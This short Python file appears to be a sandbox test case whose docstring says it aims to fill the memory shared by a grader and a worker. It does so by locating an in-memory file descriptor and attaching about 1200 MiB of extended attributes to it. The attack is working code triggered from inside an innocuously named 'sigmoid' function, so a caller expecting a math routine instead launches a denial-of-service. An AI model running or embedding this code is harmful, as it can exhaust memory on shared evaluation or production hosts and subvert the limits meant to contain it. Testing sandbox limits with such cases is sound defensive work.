"""Goal: fill memory with extended attributes of the memory that grader and worker share.

Without a sandbox: unsafe
"""

import os

MIB = 1200


def attack():
    # A file that only lives in memory, on a file system without limits; attributes are no part of its size.
    memory = next(number for number in range(3, 16) if "memfd:" in os.readlink(f"/proc/self/fd/{number}"))
    value = bytes(1 << 16)
    for number in range(MIB * 16):
        try:
            os.setxattr(memory, f"user.{number}", value)
        except OSError as error:
            raise RuntimeError(f"stopped by: {error!r}, after {number >> 4} MiB")
    raise RuntimeError(f"ATTACK SUCCEEDED: {MIB} MiB of memory in use")


# Once a worker, so that no more is used than is said.
ONCE = iter([attack])


def sigmoid(x):
    next(ONCE)()
